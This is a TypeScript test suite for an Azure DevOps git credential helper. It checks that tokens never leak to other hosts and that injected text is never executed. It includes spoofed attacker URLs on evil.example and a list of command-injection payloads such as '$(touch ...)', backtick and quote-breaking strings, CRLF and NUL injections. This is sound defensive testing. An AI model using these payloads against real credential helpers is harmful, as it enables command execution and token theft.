/** What must not happen: a token for another host, text that is run as a command, a prompt, a token in the user's home. */
import { spawnSync } from 'node:child_process';
import { chmodSync, existsSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import t from 'tap';
import { type RunningPod, TENANT_ID } from '../../src/emulators/index.js';
import { injectPod, STANDARD_DEFAULTS } from '../../src/inject/index.js';
import { ANNOTATION, USE_LABEL } from '../../src/names.js';
import {
  askHelper,
  BUILDER,
  git,
  gitOk,
  NEWCOMER,
  PAYMENTS,
  SHELLS,
  skipWithout,
  startGitFixture,
  STRANGER,
} from '../support/git-fixture.js';
import { withDeadline } from '../support/wait.js';

const { azure, startPod } = await startGitFixture(t);
const { azureDevOps, trap } = azure;
const pod = await startPod();

/** Records whether git asks for a password, which it then gets: 'answer'. */
function watchPrompts(of: RunningPod): { readonly env: Record<string, string>; readonly asked: () => boolean } {
  const script = of.locate('/data/askpass');
  writeFileSync(script, `#!/bin/sh\necho "$1" >>"$0.asked"\necho answer\n`);
  chmodSync(script, 0o755);
  const trace = `${script}.asked`;
  rmSync(trace, { force: true });
  return { env: { GIT_ASKPASS: script, SSH_ASKPASS: script }, asked: () => existsSync(trace) };
}

/** Requests that carried a secret to a host that must never get one. */
function listLeaks(): string[] {
  return trap.requests.filter(({ gotSecret }) => gotSecret).map(({ request }) => request);
}

void t.test('no token for another host, scheme or port', async (t) => {
  await gitOk(t, pod, ['ls-remote', PAYMENTS]);
  const urls = [
    'https://dev.azure.com.evil.example/contoso/payments/_git/api',
    'https://evil.example/dev.azure.com/contoso/payments/_git/api',
    'https://evil.example/https://dev.azure.com/contoso/payments/_git/api',
    'https://dev.azure.com@evil.example/contoso/payments/_git/api',
    'https://dev-azure.com/contoso/payments/_git/api',
    'http://dev.azure.com/contoso/payments/_git/api',
    'http://contoso@dev.azure.com/contoso/payments/_git/api',
    'http://contoso.visualstudio.com/payments/_git/api',
    'http://dev.azure.com:443/contoso/payments/_git/api',
    'https://dev.azure.com:8443/contoso/payments/_git/api',
  ];
  for (const url of urls) {
    const before = trap.requests.length;
    const { code } = await git(pod, ['ls-remote', url]);
    t.not(code, 0, url);
    if (url.endsWith(':443/contoso/payments/_git/api')) continue; // Plain HTTP to a TLS port fails before there is a request.
    t.ok(trap.requests.length > before, 'the request reached the other host');
  }
  t.strictSame(listLeaks(), []);
});

void t.test('no token after a redirect', async (t) => {
  t.teardown(() => azureDevOps.intercept(() => undefined));
  const locations = [
    'https://evil.example/contoso/payments/_git/api',
    'http://dev.azure.com/contoso/payments/_git/api',
  ];
  for (const location of locations) {
    for (const method of ['GET', 'POST']) {
      let redirected = 0;
      azureDevOps.intercept((asked, url) => {
        if (asked !== method) return undefined;
        redirected++;
        return {
          status: 302,
          headers: { Location: location + url.pathname.replace('/contoso/payments/_git/api', '') + url.search },
        };
      });
      for (const followRedirects of ['initial', 'true']) {
        const { code } = await git(pod, ['-c', `http.followRedirects=${followRedirects}`, 'ls-remote', PAYMENTS]);
        t.not(code, 0, `${method} to ${location}, followRedirects ${followRedirects}`);
      }
      t.ok(redirected >= 2);
    }
  }
  t.ok(
    trap.requests.some(({ request }) =>
      request.startsWith('GET https://evil.example/contoso/payments/_git/api/info/refs'),
    ),
  );
  t.strictSame(listLeaks(), []);
});

void t.test('no token for other organizations, where the annotation limits them', async (t) => {
  const limited = await startPod({ annotations: { [ANNOTATION.organizations]: 'contoso' } });
  await gitOk(t, limited, ['ls-remote', 'https://dev.azure.com/Contoso/payments/_git/api']);
  await gitOk(t, limited, ['ls-remote', 'https://CONTOSO.visualstudio.com/payments/_git/api']);
  const before = azureDevOps.requests.length;
  const urls = [
    'https://dev.azure.com/fabrikam/platform/_git/tools',
    'https://contoso@dev.azure.com/fabrikam/platform/_git/tools',
    'https://dev.azure.com//fabrikam/platform/_git/tools',
    'https://dev.azure.com/contoso/../fabrikam/platform/_git/tools',
    'https://dev.azure.com/contoso%2f..%2ffabrikam/platform/_git/tools',
    'https://dev.azure.com/contoso/%2e%2e/fabrikam/platform/_git/tools',
    'https://fabrikam.visualstudio.com/platform/_git/tools',
    'https://contosofabrikam.visualstudio.com/platform/_git/tools',
  ];
  for (const url of urls) {
    const { code, stderr } = await git(limited, ['ls-remote', url]);
    t.not(code, 0, url);
    t.match(stderr, /ado-git-identity: |not found/);
  }
  const { code, stderr } = await git(limited, [
    '-c',
    'credential.https://dev.azure.com.useHttpPath=false',
    'ls-remote',
    PAYMENTS,
  ]);
  t.equal(code, 128, 'without a path the organization is unknown');
  t.match(stderr, 'these organizations only: contoso');
  const given = azureDevOps.requests.slice(before).filter(({ tokenDigest }) => tokenDigest !== undefined);
  t.strictSame(
    given.filter(({ url }) => /fabrikam/i.test(decodeURIComponent(url))),
    [],
  );
});

const GOOD = { protocol: 'https', host: 'dev.azure.com', path: 'contoso/payments/_git/api' };

function formatQuestion(fields: Readonly<Record<string, string>>): string {
  return `${Object.entries(fields)
    .map(([key, value]) => `${key}=${value}\n`)
    .join('')}\n`;
}

void t.test('the helper refuses questions, each with one sentence and quit', async (t) => {
  const cases: Record<string, string>[] = [
    { ...GOOD, protocol: 'http' },
    { ...GOOD, protocol: 'HTTPS' },
    { ...GOOD, protocol: '' },
    { ...GOOD, host: '' },
    { ...GOOD, host: 'dev.azure.com.' },
    { ...GOOD, host: 'dev.azure.com:8443' },
    { ...GOOD, host: 'dev.azure.com:443:443' },
    { ...GOOD, host: 'xdev.azure.com' },
    { ...GOOD, host: 'ssh.dev.azure.com' },
    { ...GOOD, host: 'pkgs.dev.azure.com' },
    { ...GOOD, host: 'dev.azure.com.evil.example' },
    { ...GOOD, host: 'dev?azure.com' },
    { ...GOOD, host: 'visualstudio.com' },
    { ...GOOD, host: '.visualstudio.com' },
    { ...GOOD, host: 'a.b.visualstudio.com' },
    { ...GOOD, host: 'evil.example/.visualstudio.com' },
    { ...GOOD, host: 'contoso.visualstudio.com.evil.example' },
    { ...GOOD, host: 'dev.azure.com\r' },
    { ...GOOD, path: 'contoso/payments\r' },
    { host: 'dev.azure.com' },
    { protocol: 'https' },
    {},
  ];
  for (const fields of cases) {
    const { code, stdout, stderr } = await askHelper(pod, formatQuestion(fields));
    t.strictSame({ code, stdout }, { code: 0, stdout: 'quit=1\n' }, JSON.stringify(fields));
    t.match(stderr, /^ado-git-identity: [^\n]+\n$/);
  }
  for (const fields of [
    { ...GOOD, host: 'DEV.Azure.com:443' },
    { ...GOOD, host: 'contoso.VisualStudio.com' },
  ]) {
    t.match((await askHelper(pod, formatQuestion(fields))).stdout, /^username=/, `${fields.host} is not refused`);
  }
});

const REFUSED = `ado-git-identity: Azure DevOps refused the token of client ${BUILDER.clientId} for organization contoso: is ${BUILDER.clientId} a user of contoso, and is contoso connected to tenant ${TENANT_ID}?\n`;
const HEADER =
  'ado-git-identity: Azure DevOps refused an Authorization header that git is configured to send in place of the token; find and remove it: git config --show-origin --name-only --get-regexp extraheader\n';
const NOT_OURS =
  'ado-git-identity: Azure DevOps refused a password that is not from ado-git-identity; remove it from the URL of the remote, or from the program that gave it to git\n';
const REPLACED =
  'ado-git-identity: Azure DevOps refused a token that has expired or was replaced since git began; run git again\n';

void t.test('under each shell, erase says in one sentence what was refused, and never shows it', async (t) => {
  await gitOk(t, pod, ['ls-remote', PAYMENTS]);
  const { stdout } = await askHelper(pod, formatQuestion(GOOD));
  const [, password = ''] = /^password=(.{100,})$/m.exec(stdout) ?? [];
  const ours = { username: 'ado-git-identity', password };
  const unnamed = REFUSED.replaceAll('contoso', 'ORGANIZATION');
  const cases: readonly (readonly [Record<string, string>, string])[] = [
    [ours, REFUSED],
    [{ ...ours, host: 'contoso.visualstudio.com', path: 'x' }, REFUSED],
    [{ ...ours, path: '' }, unnamed],
    [{ ...ours, path: `${'c'.repeat(51)}/x` }, unnamed],
    [{ ...ours, path: '\u001b[2J/x' }, unnamed],
    [{ ...ours, password: `${password}x` }, REPLACED],
    [{ username: 'user', password: 'pat' }, NOT_OURS],
    [{ username: 'user', password }, NOT_OURS],
    [{ password: '$(exit 3)' }, NOT_OURS],
    [{ username: 'ado-git-identity' }, ''],
    [{}, ''],
    [{ ...ours, host: 'github.com' }, ''],
    [{ ...ours, protocol: 'http' }, ''],
    [{ ...ours, path: 'contoso\r' }, ''],
  ];
  for (const [, shell] of SHELLS.filter(([program]) => skipWithout(program) === false)) {
    for (const prefix of [[], ['env', '-i', `PATH=${process.env['PATH'] ?? ''}`]]) {
      for (const [fields, stderr] of cases) {
        const answer = await askHelper(pod, formatQuestion({ ...GOOD, ...fields }), [...prefix, ...shell], 'erase');
        t.strictSame(answer, { code: 0, stdout: '', stderr }, `${shell.join(' ')}: ${Object.keys(fields).join()}`);
      }
    }
  }
  const traced = ['env', 'SHELLOPTS=errexit:nounset:verbose:xtrace', 'bash'];
  const answer = await askHelper(pod, formatQuestion({ ...GOOD, ...ours }), traced, 'erase');
  t.ok(answer.code === 0 && answer.stderr.endsWith(REFUSED), answer.stderr);
  t.notOk(answer.stderr.includes(password));
});

const PAYLOADS = (mark: string): string[] => [
  `$(touch ${mark})`,
  `\`touch ${mark}\``,
  `'; touch ${mark}; '`,
  `"; touch ${mark}; "`,
  `\\"; touch ${mark} #`,
  `%0atouch%20${mark}`,
  `%0d%0ahost=evil.example`,
  `%00`,
  `*`,
  `%s%n`,
  `-n`,
];

void t.test('a trace that the environment asks for shows no token', async (t) => {
  const environments = [
    ['SHELLOPTS=xtrace'],
    ['SHELLOPTS=braceexpand:verbose:xtrace', 'PS4=+$password '],
    ['SHELLOPTS=xtrace', 'BASH_XTRACEFD=2'],
    ['SHELLOPTS=xtrace', 'BASH_XTRACEFD=1'],
    ['SHELLOPTS=errexit:nounset:noglob:noclobber:xtrace', 'POSIXLY_CORRECT=1'],
  ];
  for (const variables of environments) {
    const { stdout, stderr } = await askHelper(pod, formatQuestion(GOOD), ['env', ...variables, 'bash']);
    const [, password = 'none'] = /^password=(.*)$/m.exec(stdout) ?? [];
    t.match(stdout, /^username=ado-git-identity\npassword=\S{100,}\npassword_expiry_utc=\d+\n$/, variables.join(' '));
    t.notOk(stderr.includes(password), variables.join(' '));
  }
});

void t.test('no program gets the token as an argument', { skip: skipWithout('mksh') }, async (t) => {
  // mksh has no printf of its own, and dash has one.
  for (const shell of ['mksh', 'dash']) {
    const calls = pod.locate(`/data/printf-${shell}`);
    const script = pod.locate('/data/printf');
    writeFileSync(script, `#!/bin/sh\necho "$@" >>'${calls}'\nprintf "$@"\n`);
    chmodSync(script, 0o755);
    const search = `PATH=${pod.locate('/data')}:${process.env['PATH'] ?? ''}`;
    const { stdout } = await askHelper(pod, formatQuestion(GOOD), ['env', search, shell]);
    const [, password = 'none'] = /^password=(.*)$/m.exec(stdout) ?? [];
    t.match(password, /^\S{100,}$/);
    t.notMatch(existsSync(calls) ? readFileSync(calls, 'utf8') : '', password, shell);
    t.equal(existsSync(calls), shell === 'mksh', 'the test sees a program that is called');
  }
});

void t.test('the helper opens no pipe that lies where a file should', async (t) => {
  const broken = await startPod();
  await gitOk(t, broken, ['ls-remote', PAYMENTS]);
  await broken.stop();
  // The helper counts its sleeps: with one that does not wait, its 60 seconds are over at once.
  const script = broken.locate('/data/sleep');
  writeFileSync(script, '#!/bin/sh\n');
  chmodSync(script, 0o755);
  const search = `PATH=${broken.locate('/data')}:${process.env['PATH'] ?? ''}`;
  const directory = broken.locate('/var/run/ado-git');
  for (const name of readdirSync(directory).filter((one) => /^(?:state|credential-.*)$/.test(one))) {
    const path = `${directory}/${name}`;
    const text = readFileSync(path);
    rmSync(path);
    t.equal(spawnSync('mkfifo', [path]).status, 0);
    const { stdout } = await withDeadline(
      'the helper ends',
      askHelper(broken, formatQuestion(GOOD), ['env', search, 'sh']),
    );
    t.equal(stdout, 'quit=1\n', name);
    rmSync(path);
    writeFileSync(path, text);
  }
});

void t.test('no text of a URL is run as a command', async (t) => {
  const mark = pod.locate('/data/mark');
  for (const payload of PAYLOADS(mark)) {
    const url = `https://${encodeURI(payload)}@dev.azure.com/contoso/${payload}/_git/${payload}`;
    t.not((await git(pod, ['ls-remote', url])).code, 0, url);
    const harmless = { ...GOOD, path: payload, username: payload, password: payload, [payload]: payload };
    t.match((await askHelper(pod, formatQuestion(harmless))).stdout, /^username=ado-git-identity\n/);
    for (const key of ['protocol', 'host']) {
      const { stdout } = await askHelper(pod, formatQuestion({ ...GOOD, [key]: payload }));
      t.equal(stdout, 'quit=1\n', `${key}=${payload}`);
    }
  }
  const { stdout } = await askHelper(pod, `protocol=https\nhost=dev.azure.com\0.evil.example\npath=x\n\n`);
  t.not(existsSync(mark), true);
  t.equal(stdout, 'quit=1\n', 'NUL');
  t.strictSame(listLeaks(), []);
});

void t.test('no text of an annotation is run as a command', async (t) => {
  const closed = [ANNOTATION.organizations, ANNOTATION.gitConfig, ANNOTATION.startup, ANNOTATION.logLevel];
  const cases = [
    ...PAYLOADS('mark').flatMap((payload) => closed.map((key) => [key, payload] as const)),
    ...['a\nb', 'a\rb', 'a\0b', 'a"b', 'a\\b', 'a;b', 'a$b'].map(
      (name) => [ANNOTATION.projects, `contoso/${name}`] as const,
    ),
  ];
  for (const [key, value] of cases) {
    const outcome = injectPod({
      pod: {
        metadata: { labels: { [USE_LABEL]: 'true' }, annotations: { [key]: value } },
        spec: { containers: [{ name: 'build' }] },
      },
      namespace: 'ci',
      serviceAccount: { state: 'found', annotations: {} },
      defaults: { ...STANDARD_DEFAULTS, image: 'sidecar', clientId: BUILDER.clientId, tenantId: BUILDER.clientId },
    });
    t.match(outcome, { kind: 'refused', answer: 'deny' }, `${key}: ${JSON.stringify(value)}`);
  }
  // A valid project name of Azure DevOps, with characters that a shell or git could interpret.
  const project = "`touch mark` & it's (a) %41 !x ~";
  const odd = await startPod({ annotations: { [ANNOTATION.projects]: `contoso/${project}` } });
  const listing = await gitOk(t, odd, ['config', '--list']);
  t.ok(listing.includes(`url.https://dev.azure.com/contoso/${encodeURIComponent(project)}/_git/.insteadof=`), listing);
  await gitOk(t, odd, ['ls-remote', PAYMENTS]);
  t.strictSame(readdirSync(odd.locate('/data')), []);
});

void t.test('no text of the sidecar is run as a command', async (t) => {
  const odd = await startPod();
  await gitOk(t, odd, ['ls-remote', PAYMENTS]);
  const message = `$(touch ${odd.locate('/data/mark')}) \`id\` %s \\n "'`;
  writeFileSync(odd.locate('/var/run/ado-git/state'), `state=failed\nmessage=${message}\n`);
  const { stderr } = await git(odd, ['ls-remote', PAYMENTS]);
  t.ok(stderr.startsWith(`ado-git-identity: ${message}\n`), stderr);
  t.strictSame(readdirSync(odd.locate('/data')), []);
});

void t.test('git asks for a password where no helper answers, and the test sees it', async (t) => {
  const prompts = watchPrompts(pod);
  await git(pod, ['-c', 'credential.https://dev.azure.com.helper=', 'ls-remote', PAYMENTS], { env: prompts.env });
  t.ok(prompts.asked());
});

void t.test('without a token git ends at once, and asks for no password', async (t) => {
  const stranger = await startPod({ identity: STRANGER });
  const prompts = watchPrompts(stranger);
  const { code, stderr } = await git(stranger, ['ls-remote', PAYMENTS], { env: prompts.env });
  t.equal(code, 128);
  t.match(stderr, /^ado-git-identity: .*system:serviceaccount:ci:builder.*az identity federated-credential create/);
  t.notOk(prompts.asked());
});

void t.test('a token that Azure DevOps refuses ends git without a question for a password, and stays', async (t) => {
  const prompts = watchPrompts(pod);
  const cases: [string, number, string[]][] = [
    ['Authentication failed', 401, ['ls-remote', PAYMENTS]],
    ['TF401019', 404, ['ls-remote', 'https://dev.azure.com/contoso/payments/_git/absent']],
    ['TF400733', 429, ['ls-remote', PAYMENTS]],
  ];
  const credential = pod.locate(
    `/var/run/ado-git/${readdirSync(pod.locate('/var/run/ado-git')).find((name) => name.startsWith('credential-')) ?? ''}`,
  );
  const content = readFileSync(credential, 'utf8');
  for (const [words, status, args] of cases) {
    azureDevOps.intercept((_method, url) => {
      if (status === 401) return { status, headers: { 'WWW-Authenticate': 'Basic realm="x"' } };
      if (status === 429 && url.pathname.endsWith('/info/refs')) return { status, body: words };
      return undefined;
    });
    const { code, stderr } = await git(pod, args, { env: prompts.env });
    azureDevOps.intercept(() => undefined);
    t.not(code, 0, words);
    if (status !== 429) t.match(stderr, words);
    t.equal(stderr.includes(REFUSED), status === 401, stderr);
  }
  t.notOk(prompts.asked());
  t.equal(readFileSync(credential, 'utf8'), content, 'erase leaves it');
  await gitOk(t, pod, ['ls-remote', PAYMENTS]);
});

void t.test('a wrong password in the URL ends git without a wait', async (t) => {
  // There is no token yet. A helper that waits for one, when git calls it to erase the password, ends with a message.
  const waiting = await startPod({ identity: NEWCOMER });
  const prompts = watchPrompts(waiting);
  const url = PAYMENTS.replace('https://', 'https://user:pat@');
  const ended = git(waiting, ['ls-remote', url], { env: prompts.env });
  const { code, stderr } = await withDeadline('git ends', ended, { withinSeconds: 90 });
  t.equal(code, 128);
  t.match(stderr, 'Authentication failed');
  t.match(stderr, NOT_OURS);
  t.notOk(prompts.asked());
});

void t.test('what Azure DevOps refused is named as what git sent', async (t) => {
  t.teardown(() => azureDevOps.intercept(() => undefined));
  const header = 'Authorization: Basic dXNlcjpwYXQ=';
  const cases: readonly (readonly [string, string, string])[] = [
    ['http.extraHeader', header, HEADER],
    ['http.https://dev.azure.com/.extraHeader', header.toUpperCase(), HEADER],
    ['http.https://contoso@dev.azure.com.extraHeader', header, HEADER],
    ['http.https://github.com/.extraHeader', header, REFUSED],
    ['http.extraHeader', 'X-Trace: authorization: x', REFUSED],
  ];
  azureDevOps.intercept(() => ({ status: 401, headers: { 'WWW-Authenticate': 'Basic realm="x"' } }));
  for (const [key, value, expected] of cases) {
    const { code, stderr } = await git(pod, ['-c', `${key}=${value}`, 'ls-remote', PAYMENTS]);
    t.equal(code, 128);
    t.strictSame(
      stderr.split('\n').filter((line) => line.startsWith('ado-git-identity: ')),
      [expected.trimEnd()],
      key,
    );
    t.notMatch(stderr, 'dXNlcjpwYXQ', 'no secret is shown');
  }
});

void t.test("the user's own helper that stores gets no token of ours, and still serves other hosts", async (t) => {
  writeFileSync(pod.locate('/home/.gitconfig'), '[credential]\n\thelper = store\n\thelper = cache\n');
  await gitOk(t, pod, ['clone', PAYMENTS, 'stored']);
  const input = 'protocol=https\nhost=dev.azure.com\nusername=x\npassword=y\n\n';
  await gitOk(t, pod, ['credential', 'approve'], { input });
  t.strictSame(readdirSync(pod.locate('/home')), ['.gitconfig']);
  t.equal(await gitOk(t, pod, ['config', '--get-urlmatch', 'credential.helper', 'https://github.com']), 'cache\n');
  const github = 'protocol=https\nhost=github.com\nusername=x\npassword=y\n\n';
  await gitOk(t, pod, ['-c', 'credential.helper=', '-c', 'credential.helper=store', 'credential', 'approve'], {
    input: github,
  });
  t.match(readFileSync(pod.locate('/home/.git-credentials'), 'utf8'), 'github.com');
});

void t.test('the test sees a secret that reaches another host', async (t) => {
  t.strictSame(listLeaks(), []);
  await git(pod, ['ls-remote', 'https://user:pat@evil.example/contoso/payments/_git/api']);
  t.ok(listLeaks().length > 0);
});
